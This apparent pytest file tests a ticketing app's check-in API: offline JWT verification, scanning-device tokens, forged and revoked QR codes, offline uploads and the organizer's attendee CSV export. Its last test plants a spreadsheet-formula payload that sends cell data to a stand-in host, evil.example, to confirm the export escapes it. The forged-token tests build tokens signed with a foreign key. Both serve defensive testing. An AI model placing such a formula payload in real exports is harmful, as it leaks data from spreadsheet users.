"""Check-in over HTTP, as a scanning device and an organizer use it: the published key
verifies a ticket offline; a device issued by the event's organizer redeems a paid
ticket once and answers every refusal with its reason; offline uploads count once
however often they are sent; organizers reach only their own events; the attendee
CSV is filtered like the page and safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import hashlib
import io
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec
from jose import ExpiredSignatureError, JWTError, jwt
from sqlmodel import SQLModel, col, func, select

from payflow_app.core.db import read_session, write_transaction
from payflow_app.models import CheckIn, CheckInDevice, CheckInScan, Event, Order, Ticket, User, pk, utcnow
from payflow_app.services.accounts import customers
from payflow_app.services.accounts.customers import SessionUser
from payflow_app.services.organizer import events as organizer
from payflow_app.services.tickets import actions, checkin, devices
from payflow_app.services.tickets.tokens import verify_ticket_token
from tests import factories

ORGANIZER = "organizer@payflow.test"
RIVAL = "rival@example.com"


@contextmanager
def _client(server: str, email: str | None = None) -> Iterator[httpx.Client]:
    """A client signed in as ``email`` (the session cookie the pages use), or anonymous."""
    with httpx.Client(base_url=server, timeout=20) as client:
        if email is not None:
            client.cookies.set("payflow_session", customers.issue_session_token(_user(email)))
            client.headers["Origin"] = server  # as our pages send it
        yield client


@pytest.fixture
def http(server: str) -> Iterator[httpx.Client]:
    with _client(server) as client:
        yield client


@pytest.fixture
def organizer_http(server: str) -> Iterator[httpx.Client]:
    with _client(server, ORGANIZER) as client:
        yield client


def _user(email: str) -> User:
    with read_session() as session:
        return session.exec(select(User).where(User.email == email)).one()


def _session_user(email: str) -> SessionUser:
    found = customers.session_user(customers.issue_session_token(_user(email)))
    assert found is not None
    return found


def _add_rival_organizer() -> None:
    with write_transaction() as session:
        session.add(User(email=RIVAL, full_name="Rival Organizer", role="organizer"))


def _jazz_night() -> int:
    return factories.ticket_type("Standard").event_id


def _tech_summit() -> int:
    return factories.ticket_type("Regular").event_id


def _count(model: type[SQLModel]) -> int:
    with read_session() as session:
        return int(session.exec(select(func.count()).select_from(model)).one())


def _issue_device(client: httpx.Client, event_id: int, name: str = "North gate") -> str:
    answer = client.post(f"/api/organizer/events/{event_id}/devices", json={"name": name})
    assert answer.status_code == 201, answer.text
    body = answer.json()
    assert body["name"] == name and body["token"].startswith("pfd_")
    return str(body["token"])


def _scan(http: httpx.Client, device: str, code: str, **extra: str) -> dict[str, Any]:
    answer = http.post(
        "/api/checkin", json={"code": code, **extra}, headers={"Authorization": f"Bearer {device}"}
    )
    assert answer.status_code == 200, answer.text
    return dict(answer.json())


def _device_id(token: str) -> int:
    device = devices.device_for_token(token)
    assert device is not None
    return pk(device)


def _ticket(number: str) -> Ticket:
    with read_session() as session:
        return session.exec(select(Ticket).where(Ticket.number == number)).one()


# The key ------------------------------------------------------------------------


def test_the_published_key_verifies_a_ticket_offline(http: httpx.Client) -> None:
    ticket = factories.tickets_of(factories.paid_order())[0]
    answer = http.get("/.well-known/jwks.json")
    assert answer.status_code == 200
    (key,) = answer.json()["keys"]
    assert (key["kty"], key["crv"], key["alg"]) == ("EC", "P-256", "ES256")
    assert "d" not in key  # the public half only
    assert jwt.get_unverified_header(ticket.qr_token)["kid"] == key["kid"]

    claims = jwt.decode(ticket.qr_token, key, algorithms=["ES256"], issuer="payflow")
    assert (claims["tkt"], claims["evt"]) == (ticket.number, _jazz_night())
    assert not {"Ada Lovelace", "ada@example.com"} & {str(value) for value in claims.values()}
    # The key really checks the signature: another ticket's claims under it fail.
    other = factories.tickets_of(factories.paid_order(email="grace@example.com"))[0]
    header, _, signature = ticket.qr_token.split(".")
    spliced = ".".join([header, other.qr_token.split(".")[1], signature])
    with pytest.raises(JWTError):
        jwt.decode(spliced, key, algorithms=["ES256"], issuer="payflow")


def _move_event(event_id: int, starts_at: datetime) -> None:
    with write_transaction() as session:
        event = session.get(Event, event_id)
        assert event is not None
        event.starts_at = starts_at


def test_a_ticket_expires_offline_and_at_the_gate_a_grace_period_after_its_event(
    http: httpx.Client, organizer_http: httpx.Client
) -> None:
    ticket = factories.tickets_of(factories.paid_order())[0]
    event_id = _jazz_night()
    (key,) = http.get("/.well-known/jwks.json").json()["keys"]
    with read_session() as session:
        event = session.get(Event, event_id)
        assert event is not None
        starts = event.starts_at
    claims = jwt.decode(ticket.qr_token, key, algorithms=["ES256"], issuer="payflow")
    assert claims["exp"] == int((starts + timedelta(hours=24)).timestamp())

    # The event was yesterday: a ticket signed now carries an exp already past.
    _move_event(event_id, utcnow() - timedelta(hours=30))
    actions.reissue(_session_user(ORGANIZER), ticket.number)
    (expired,) = factories.tickets_of(_order_of(ticket))
    with pytest.raises(ExpiredSignatureError):  # a scanner with only the JWKS refuses it
        jwt.decode(expired.qr_token, key, algorithms=["ES256"], issuer="payflow")
    device = _issue_device(organizer_http, event_id)
    answer = _scan(http, device, expired.qr_token)
    assert (answer["ok"], answer["reason"]) == (False, "expired")
    assert answer["message"] == "Expired — tickets for this event are no longer valid"
    assert _scan(http, device, expired.number)["reason"] == "expired"
    bundle = http.get("/api/checkin/revocations", headers={"Authorization": f"Bearer {device}"}).json()
    assert datetime.fromisoformat(bundle["tickets_valid_until"]) < utcnow()
    assert _count(CheckIn) == 0

    # Postponed: the event's current start wins over the stale exp, for the gate and
    # for a scanner that reads the bound from its bundle.
    _move_event(event_id, utcnow() + timedelta(days=2))
    bundle = http.get("/api/checkin/revocations", headers={"Authorization": f"Bearer {device}"}).json()
    assert datetime.fromisoformat(bundle["tickets_valid_until"]) > utcnow() + timedelta(days=2)
    assert _scan(http, device, expired.qr_token)["reason"] == "valid"


def _order_of(ticket: Ticket) -> Order:
    with read_session() as session:
        order = session.get(Order, ticket.order_id)
        assert order is not None
        return order


# Devices ------------------------------------------------------------------------


def test_check_in_refuses_requests_without_a_live_device_token(
    http: httpx.Client, organizer_http: httpx.Client
) -> None:
    ticket = factories.tickets_of(factories.paid_order())[0]
    revoked = _issue_device(organizer_http, _jazz_night(), "Old gate")
    device_id = _device_id(revoked)
    assert devices.revoke_device(_session_user(ORGANIZER), event_id=_jazz_night(), device_id=device_id)
    live = _issue_device(organizer_http, _jazz_night())
    refused_headers: list[dict[str, str]] = [
        {},
        {"Authorization": "Bearer pfd_never-issued"},
        {"Authorization": f"Bearer {live}x"},
        {"Authorization": live},  # no scheme
        {"Authorization": f"Basic {live}"},
        {"Authorization": f"Bearer {revoked}"},
    ]
    scan_now = {"code": ticket.qr_token}
    upload = {
        "scans": [{"nonce": "scan-0001", "code": ticket.qr_token, "scanned_at": _an_hour_ago().isoformat()}]
    }
    for headers in refused_headers:
        for method, path, body in (
            ("POST", "/api/checkin", scan_now),
            ("POST", "/api/checkin/offline", upload),
            ("GET", "/api/checkin/revocations", None),
        ):
            answer = http.request(method, path, json=body, headers=headers)
            assert answer.status_code == 401, (headers, path)
            assert answer.json()["error"]["code"] == "invalid_device_token"
    assert (_count(CheckInScan), _count(CheckIn)) == (0, 0)
    # The ticket was never let in: the live device admits it now.
    assert _scan(http, live, ticket.qr_token)["reason"] == "valid"


def test_an_issued_device_token_is_stored_only_as_its_hash(organizer_http: httpx.Client) -> None:
    token = _issue_device(organizer_http, _jazz_night())
    with read_session() as session:
        (device,) = session.exec(select(CheckInDevice)).all()
    assert device.token_hash == hashlib.sha256(token.encode()).hexdigest()
    assert (device.event_id, device.name, device.issued_by) == (
        _jazz_night(),
        "North gate",
        pk(_user(ORGANIZER)),
    )
    nameless = organizer_http.post(f"/api/organizer/events/{_jazz_night()}/devices", json={"name": " "})
    assert nameless.status_code == 400 and "name" in nameless.json()["error"]["fields"]
    assert _count(CheckInDevice) == 1


# Scans --------------------------------------------------------------------------


def test_a_device_checks_a_paid_ticket_in_once(http: httpx.Client, organizer_http: httpx.Client) -> None:
    device = _issue_device(organizer_http, _jazz_night())
    ticket = factories.tickets_of(factories.paid_order())[0]

    first = _scan(http, device, ticket.qr_token, operator="Olga")
    assert first["event_id"] == _jazz_night()
    assert (first["ok"], first["reason"], first["message"]) == (
        True,
        "valid",
        "Valid — Ada Lovelace, Standard",
    )
    assert first["ticket"] == {"number": ticket.number, "holder": "Ada Lovelace", "type": "Standard"}

    again = _scan(http, device, ticket.qr_token, operator="Piotr")
    assert (again["ok"], again["reason"]) == (False, "already_redeemed")
    with read_session() as session:
        (redeemed,) = session.exec(select(CheckIn)).all()
    assert again["first_check_in"] == {
        "at": redeemed.scanned_at.isoformat(),
        "gate": "North gate",
        "operator": "Olga",
    }
    assert "gate North gate, by Olga" in again["message"]
    assert (redeemed.ticket_id, redeemed.operator) == (ticket.id, "Olga")


def test_three_gates_scanning_the_same_tickets_at_once_admit_each_once(any_server: str) -> None:
    """The rush at the doors, over HTTP: every ticket is scanned at three gates at the
    same moment (QR code or typed number); each is let in exactly once, and the other
    gates are told who let it in."""
    organizer = _session_user(ORGANIZER)
    gates = [devices.issue_device(organizer, event_id=_jazz_night(), name=f"Gate {g}").token for g in "ABC"]
    tickets = [
        t
        for i in range(3)
        for t in factories.tickets_of(factories.paid_order(quantity=4, email=f"r{i}@x.io"))
    ]
    jobs = [(ticket, gate) for ticket in tickets for gate in gates]
    start = threading.Barrier(len(jobs))

    def scan(job: tuple[Ticket, str]) -> dict[str, Any]:
        ticket, gate = job
        with _client(any_server) as client:
            start.wait()
            return _scan(client, gate, ticket.qr_token if ticket.seat_index % 2 else ticket.number)

    with ThreadPoolExecutor(max_workers=len(jobs)) as pool:
        answers = list(pool.map(scan, jobs))

    with read_session() as session:
        redeemed = {c.ticket_id: c for c in session.exec(select(CheckIn)).all()}
        scans = session.exec(select(CheckInScan.reason)).all()
    assert sorted(redeemed) == sorted(pk(t) for t in tickets)
    assert sorted(scans) == ["already_redeemed"] * (2 * len(tickets)) + ["valid"] * len(tickets)
    for ticket in tickets:
        answered = [a for (t, _gate), a in zip(jobs, answers, strict=True) if t is ticket]
        assert sorted(a["reason"] for a in answered) == ["already_redeemed", "already_redeemed", "valid"]
        winner = redeemed[pk(ticket)]
        assert {a["first_check_in"]["gate"] for a in answered if not a["ok"]} == {winner.gate}
        assert all(a["ticket"]["number"] == ticket.number for a in answered)


def test_a_typed_ticket_number_checks_in(http: httpx.Client, organizer_http: httpx.Client) -> None:
    device = _issue_device(organizer_http, _jazz_night())
    ticket = factories.tickets_of(factories.paid_order())[0]
    typed = _scan(http, device, f" {ticket.number.lower()} ")
    assert (typed["reason"], typed["ticket"]["number"]) == ("valid", ticket.number)
    assert _scan(http, device, "TKT-0-NOBODY")["reason"] == "unknown_ticket"


def test_forged_qr_codes_are_answered_forged_and_let_nobody_in(
    http: httpx.Client, organizer_http: httpx.Client
) -> None:
    device = _issue_device(organizer_http, _jazz_night())
    ticket, other = factories.tickets_of(factories.paid_order(quantity=2))
    claims = verify_ticket_token(ticket.qr_token)
    foreign_key = ec.generate_private_key(ec.SECP256R1()).private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    signed_elsewhere = jwt.encode(
        {"iss": "payflow", "tkt": ticket.number, "evt": claims.event_id, "nonce": "n0nce", "iat": 1},
        foreign_key,
        algorithm="ES256",
        headers={"kid": jwt.get_unverified_header(ticket.qr_token)["kid"]},  # claims our key's id
    )
    header, _, signature = other.qr_token.split(".")
    spliced = ".".join([header, ticket.qr_token.split(".")[1], signature])
    for forged in (signed_elsewhere, spliced, ticket.qr_token[:-4] + "AAAA"):
        answer = _scan(http, device, forged)
        assert (answer["ok"], answer["reason"], answer["ticket"]) == (False, "forged", None), forged
    assert _count(CheckIn) == 0
    assert _scan(http, device, ticket.qr_token)["reason"] == "valid"


def test_a_ticket_of_another_event_is_wrong_event_and_names_nobody(
    http: httpx.Client, organizer_http: httpx.Client
) -> None:
    summit_device = _issue_device(organizer_http, _tech_summit())
    ticket = factories.tickets_of(factories.paid_order())[0]
    for code in (ticket.qr_token, ticket.number):
        answer = _scan(http, summit_device, code)
        assert (answer["ok"], answer["reason"], answer["ticket"]) == (False, "wrong_event", None)
        assert "Ada" not in answer["message"] and "Standard" not in answer["message"]
    assert _count(CheckIn) == 0


def test_revoked_and_replaced_qr_codes_are_refused_and_listed(
    http: httpx.Client, organizer_http: httpx.Client
) -> None:
    device = _issue_device(organizer_http, _jazz_night())
    revoked, reissued = factories.tickets_of(factories.paid_order(quantity=2))
    acting = _session_user(ORGANIZER)
    actions.revoke(acting, revoked.number, reason="Chargeback")
    actions.reissue(acting, reissued.number)
    with read_session() as session:
        replacement = session.get(Ticket, reissued.id)
    assert replacement is not None and replacement.number != reissued.number
    new_token = replacement.qr_token

    # The old QR and the old number of the reissued ticket admit nobody either.
    for code in (revoked.qr_token, revoked.number, reissued.qr_token, reissued.number):
        answer = _scan(http, device, code)
        assert (answer["ok"], answer["reason"]) == (False, "revoked"), code
    assert _scan(http, device, new_token)["reason"] == "valid"

    listed = http.get("/api/checkin/revocations", headers={"Authorization": f"Bearer {device}"})
    assert listed.status_code == 200
    assert listed.json() == {
        "event_id": _jazz_night(),
        "revoked_nonces": [
            verify_ticket_token(revoked.qr_token).nonce,
            verify_ticket_token(reissued.qr_token).nonce,
        ],
        "tickets_valid_until": devices.tickets_valid_until(_jazz_night()).isoformat(),
        "jwks": "/.well-known/jwks.json",
    }
    summit_device = _issue_device(organizer_http, _tech_summit())
    summit = http.get("/api/checkin/revocations", headers={"Authorization": f"Bearer {summit_device}"})
    assert summit.json()["revoked_nonces"] == []


def test_a_device_of_another_organizers_event_cannot_let_their_tickets_in(
    server: str, http: httpx.Client
) -> None:
    _add_rival_organizer()
    rival_event = organizer.create_event(
        _session_user(RIVAL),
        organizer.EventForm(
            title="Rival Gig", description="", venue="Elsewhere", starts_at="2030-06-01T20:00", currency="PLN"
        ),
    )
    with _client(server, RIVAL) as rival:
        rival_device = _issue_device(rival, pk(rival_event))
    ticket = factories.tickets_of(factories.paid_order())[0]
    answer = _scan(http, rival_device, ticket.qr_token)
    assert (answer["reason"], answer["ticket"], answer["event_id"]) == ("wrong_event", None, pk(rival_event))
    assert _count(CheckIn) == 0


# Offline uploads ----------------------------------------------------------------


def test_an_offline_upload_sent_twice_counts_once(http: httpx.Client, organizer_http: httpx.Client) -> None:
    device = _issue_device(organizer_http, _jazz_night(), "East gate")
    first_ticket, second_ticket = factories.tickets_of(factories.paid_order(quantity=2))
    doors = _an_hour_ago()
    scans = [
        {"nonce": "east-0001", "code": first_ticket.qr_token, "scanned_at": doors.isoformat()},
        {
            "nonce": "east-0002",
            "code": first_ticket.qr_token,
            "scanned_at": (doors + timedelta(seconds=7)).strftime("%Y-%m-%dT%H:%M:%SZ"),
        },
        # No zone: read as UTC.
        {
            "nonce": "east-0003",
            "code": second_ticket.number,
            "scanned_at": f"{doors + timedelta(minutes=1):%Y-%m-%dT%H:%M:%S}",
        },
    ]

    def upload() -> list[dict[str, Any]]:
        answer = http.post(
            "/api/checkin/offline",
            json={"scans": scans, "operator": "Olga"},
            headers={"Authorization": f"Bearer {device}"},
        )
        assert answer.status_code == 200, answer.text
        assert answer.json()["event_id"] == _jazz_night()
        return list(answer.json()["results"])

    first, again = upload(), upload()
    for results, duplicate in ((first, False), (again, True)):
        assert [(r["nonce"], r["reason"], r["duplicate"]) for r in results] == [
            ("east-0001", "valid", duplicate),
            ("east-0002", "already_redeemed", duplicate),
            ("east-0003", "valid", duplicate),
        ]
        assert results[1]["first_check_in"] == {
            "at": doors.isoformat(),
            "gate": "East gate",
            "operator": "Olga",
        }
        assert results[2]["ticket"]["holder"] == "Ada Lovelace"

    with read_session() as session:
        check_ins = session.exec(select(CheckIn).order_by(col(CheckIn.id))).all()
        nonces = session.exec(select(CheckInScan.nonce).order_by(col(CheckInScan.id))).all()
    assert nonces == ["east-0001", "east-0002", "east-0003"]
    # Each ticket redeemed once, at the time the device scanned it, not the upload's.
    assert [(c.ticket_id, c.scanned_at) for c in check_ins] == [
        (first_ticket.id, doors),
        (second_ticket.id, doors + timedelta(minutes=1)),
    ]


def _an_hour_ago() -> datetime:
    return datetime.now(UTC).replace(microsecond=0) - timedelta(hours=1)


GOOD_SCAN = {"nonce": "west-0001", "code": "", "scanned_at": _an_hour_ago().isoformat()}
BadBody = Callable[[dict[str, str]], object]
INVALID_UPLOADS: list[tuple[str, BadBody, str]] = [
    ("no scans", lambda good: {}, "scans"),
    ("not a list", lambda good: {"scans": good}, "scans"),
    ("empty", lambda good: {"scans": []}, "scans"),
    ("over 500", lambda good: {"scans": [good] * 501}, "scans"),
    ("not an object", lambda good: {"scans": [good, good["code"]]}, "scans[1]"),
    (
        "missing code",
        lambda good: {"scans": [good, {**good, "nonce": "west-0002", "code": " "}]},
        "scans[1].code",
    ),
    (
        "bad scanned_at",
        lambda good: {"scans": [good, {**good, "nonce": "west-0002", "scanned_at": "yesterday"}]},
        "scans[1].scanned_at",
    ),
    (
        "scanned in the future (a wrong clock)",
        lambda good: {"scans": [good, {**good, "nonce": "west-0002", "scanned_at": "2099-01-01T19:00:00Z"}]},
        "scans[1].scanned_at",
    ),
    (
        "scanned weeks ago",
        lambda good: {
            "scans": [
                good,
                {
                    **good,
                    "nonce": "west-0002",
                    "scanned_at": (_an_hour_ago() - timedelta(days=30)).isoformat(),
                },
            ]
        },
        "scans[1].scanned_at",
    ),
    ("short nonce", lambda good: {"scans": [good, {**good, "nonce": "w2"}]}, "scans[1].nonce"),
    (
        "code too long",
        lambda good: {"scans": [good, {**good, "nonce": "west-0002", "code": "TKT-" + "X" * 2000}]},
        "scans[1].code",
    ),
]


@pytest.mark.parametrize(
    ("_case", "make_body", "field"), INVALID_UPLOADS, ids=[c[0] for c in INVALID_UPLOADS]
)
def test_an_invalid_upload_is_refused_whole_and_records_nothing(
    http: httpx.Client, organizer_http: httpx.Client, _case: str, make_body: BadBody, field: str
) -> None:
    device = _issue_device(organizer_http, _jazz_night())
    ticket = factories.tickets_of(factories.paid_order())[0]
    answer = http.post(
        "/api/checkin/offline",
        json=make_body({**GOOD_SCAN, "code": ticket.qr_token}),
        headers={"Authorization": f"Bearer {device}"},
    )
    assert answer.status_code == 400, answer.text
    error = answer.json()["error"]
    assert (_count(CheckInScan), _count(CheckIn)) == (0, 0)
    assert (error["code"], list(error["fields"])) == ("invalid_input", [field])


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({}, "code"),
        ({"code": 42}, "code"),
        ({"code": "   "}, "code"),
        ({"code": "TKT-1", "operator": 7}, "operator"),
    ],
)
def test_an_invalid_scan_is_a_400_and_records_nothing(
    http: httpx.Client, organizer_http: httpx.Client, body: dict[str, object], field: str
) -> None:
    device = _issue_device(organizer_http, _jazz_night())
    answer = http.post("/api/checkin", json=body, headers={"Authorization": f"Bearer {device}"})
    assert answer.status_code == 400
    assert answer.json()["error"]["code"] == "invalid_input" and field in answer.json()["error"]["fields"]
    not_json = http.post("/api/checkin", content=b"TKT-1", headers={"Authorization": f"Bearer {device}"})
    assert not_json.status_code == 415 and not_json.json()["error"]["code"] == "json_required"
    assert _count(CheckInScan) == 0


# Who reaches an event -----------------------------------------------------------


@pytest.mark.parametrize(
    ("email", "status", "code"),
    [(None, 401, "not_signed_in"), ("customer@payflow.test", 403, "forbidden"), (RIVAL, 404, "not_found")],
)
def test_only_the_events_organizer_issues_its_devices_and_reads_its_attendees(
    server: str, organizer_http: httpx.Client, email: str | None, status: int, code: str
) -> None:
    _add_rival_organizer()
    factories.paid_order()
    event_id = _jazz_night()
    with _client(server, email) as client:
        for path, send in (
            (f"/api/organizer/events/{event_id}/attendees.csv", lambda p: client.get(p)),
            (
                f"/api/organizer/events/{event_id}/devices",
                lambda p: client.post(p, json={"name": "Side door"}),
            ),
        ):
            answer = send(path)
            assert (answer.status_code, answer.json()["error"]["code"]) == (status, code), path
            if status == 404:  # exactly as for an event that does not exist
                assert answer.json() == send(path.replace(f"/{event_id}/", "/999999/")).json()
    assert _count(CheckInDevice) == 0
    # The event's own organizer (and an operator) get through.
    assert organizer_http.get(f"/api/organizer/events/{event_id}/attendees.csv").status_code == 200
    with _client(server, "admin@payflow.test") as admin:
        assert admin.get(f"/api/organizer/events/{event_id}/attendees.csv").status_code == 200


# The attendee CSV ---------------------------------------------------------------


def _csv(client: httpx.Client, event_id: int, **params: str) -> list[dict[str, str]]:
    answer = client.get(f"/api/organizer/events/{event_id}/attendees.csv", params=params)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"] == 'attachment; filename="attendees-warsaw-jazz-night.csv"'
    return list(csv.DictReader(io.StringIO(answer.text)))


def test_the_attendee_csv_lists_buyers_and_is_filtered_like_the_page(organizer_http: httpx.Client) -> None:
    ada = factories.paid_order(quantity=2)
    grace = factories.paid_order(quantity=1, type_name="VIP", email="grace@example.com")
    with write_transaction() as session:
        user = session.exec(select(User).where(User.email == "grace@example.com")).one()
        user.full_name = "Grace Hopper"
    first, second = factories.tickets_of(ada)
    (vip,) = factories.tickets_of(grace)
    event_id = _jazz_night()
    gate = checkin.Gate(event_id=event_id, name="North", operator="Olga")
    assert checkin.check_in(gate, first.qr_token).ok

    everyone = _csv(organizer_http, event_id)
    assert {(r["ticket_number"], r["holder"], r["email"], r["order_number"]) for r in everyone} == {
        (first.number, "Ada Lovelace", "ada@example.com", ada.number),
        (second.number, "Ada Lovelace", "ada@example.com", ada.number),
        (vip.number, "Grace Hopper", "grace@example.com", grace.number),
    }
    assert [r["ticket_number"] for r in _csv(organizer_http, event_id, q="hopper")] == [vip.number]
    assert sorted(r["ticket_number"] for r in _csv(organizer_http, event_id, q=ada.number)) == sorted(
        [first.number, second.number]
    )
    (checked,) = _csv(organizer_http, event_id, checked_in="yes")
    assert (checked["ticket_number"], checked["gate"]) == (first.number, "North")
    assert datetime.fromisoformat(checked["checked_in_at"]) > datetime.now(UTC) - timedelta(minutes=5)
    assert sorted(r["ticket_number"] for r in _csv(organizer_http, event_id, checked_in="no")) == sorted(
        [second.number, vip.number]
    )
    vip_type = factories.ticket_type("VIP")
    assert [r["ticket_number"] for r in _csv(organizer_http, event_id, type=str(pk(vip_type)))] == [
        vip.number
    ]


def test_a_holder_name_that_is_a_formula_is_not_run_by_a_spreadsheet(organizer_http: httpx.Client) -> None:
    order = factories.paid_order(email="mallory@example.com")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    with write_transaction() as session:
        user = session.exec(select(User).where(User.email == "mallory@example.com")).one()
        user.full_name = formula
    (row,) = _csv(organizer_http, _jazz_night())
    assert row["ticket_number"] == factories.tickets_of(order)[0].number
    assert row["holder"] == "'" + formula
